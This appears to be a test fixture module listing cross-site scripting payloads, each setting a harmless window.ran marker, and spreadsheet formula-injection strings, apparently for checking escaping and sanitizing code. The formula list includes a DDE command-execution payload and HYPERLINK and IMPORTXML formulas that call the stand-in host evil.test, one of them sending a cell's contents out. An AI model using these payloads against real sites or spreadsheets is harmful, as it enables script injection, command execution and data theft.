/** Each sets `window.ran` where it is written as markup, as an address or as a template. */
export const scripts = [
  '"><img src=x onerror=window.ran=1>',
  '</title><script>window.ran=2</script>',
  '<svg/onload=window.ran=3>',
  'javascript:window.ran=4//',
  '{{constructor.constructor("window.ran=5")()}}',
  '${window.ran=6}',
  '<a href="javascript:window.ran=7">x</a>',
  "'-window.ran=8-'",
  '</script><script>window.ran=9</script>',
  '<!--><img src=x onerror=window.ran=10>',
];
/** Each is a formula in a table where nothing stands before it. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?x="&A1,"click")',
  '=IMPORTXML("http://evil.test","//a")',
  ' =1+1',
  '\uFF1D1+1',
  '";=1+1;"',
  '=1+1\n=2+2',
  '%0A-3+3',
];
